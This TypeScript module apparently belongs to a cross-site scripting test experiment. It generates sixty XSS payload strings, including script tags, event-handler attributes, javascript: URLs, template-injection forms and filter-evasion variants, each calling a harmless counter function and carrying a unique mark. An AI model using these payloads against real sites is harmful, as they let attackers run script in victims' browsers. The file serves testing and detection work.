// Texts that run a script where a page takes them for more than text. Each calls a function that the pages of the experiment have, and carries a mark of its own.

/** What a payload calls; it counts. */
export const HOOK = 'scriptRan';

const CALL = `${HOOK}()`;

const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' onfocus='${call}' autofocus='`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<a href="javascript:${call}">click</a>`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}//`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<math><mtext><script>${call}</script></mtext></math>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `\u003cscript\u003e${call}\u003c/script\u003e`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script >${call}</script >`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x:x onerror\n=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>x</x>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `[link](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\`;${call};//`,
  (call) => `*/${call}/*`,
];

export interface Payload {
  readonly text: string;
  /** Stands in the text, and in no other. */
  readonly mark: string;
}

export const PAYLOADS: readonly Payload[] = SHAPES.map((shape, i) => {
  const mark = `MARK${String(i).padStart(2, '0')}`;
  return { text: `${mark}${shape(CALL)}`, mark };
});
